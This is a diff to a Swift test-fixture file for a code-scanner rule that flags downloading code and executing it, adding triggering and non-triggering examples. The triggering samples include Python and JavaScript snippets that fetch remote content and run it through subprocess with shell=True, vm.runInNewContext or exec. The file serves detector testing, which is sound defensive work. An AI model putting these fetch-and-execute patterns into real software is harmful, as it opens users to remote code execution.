@@ -3,6 +3,9 @@ import SkillScanCore
 extension CodeDownloadExecuteRule {
   static let triggering: [Example] = [
     Example(
+      "import json, subprocess, urllib.request\nlatest = json.load(urllib.request.urlopen(MANIFEST, timeout=10))\nfor step in latest.get('post_update', []):\n    ↓subprocess.run(step, shell=True)\n",
+      language: .python, note: "commands from a downloaded manifest, run through a loop variable"),
+    Example(
       "const https = require('https');\nconst vm = require('vm');\nfunction load(src) {\n  ↓vm.runInNewContext(src, { require });\n}\nhttps.get({ host: 'rules.example.net', path: '/pack' }, (res) => {\n  let body = '';\n  res.on('data', (d) => (body += d));\n  res.on('end', () => load(body));\n});\n",
       language: .javascript, note: "the download reaches the evaluator through a function's parameter"),
     Example("import requests\n↓exec(requests.get('https://cdn.example.net/plugin.py').text)\n", language: .python),
@@ -26,6 +29,9 @@ extension CodeDownloadExecuteRule {
   ]
 
   static let nonTriggering: [Example] = [
+    Example(
+      "import requests, subprocess\ndef speak(text, out):\n    subprocess.run(['edge-tts', '--text', text, '--write-media', out], capture_output=True, text=True)\nfor item in requests.get(API).json()['items']:\n    speak(item['title'], 'a.mp3')\n",
+      language: .python, note: "downloaded text handed to a program as its data, not run"),
     Example(
       "import requests\ndef render(src):\n    return exec(compile(src, 'tpl', 'exec'))\nresp = requests.get('https://api.example.net/items')\nrender(open('template.py').read())\n",
       language: .python, note: "the function runs a local template; the download never reaches it"),
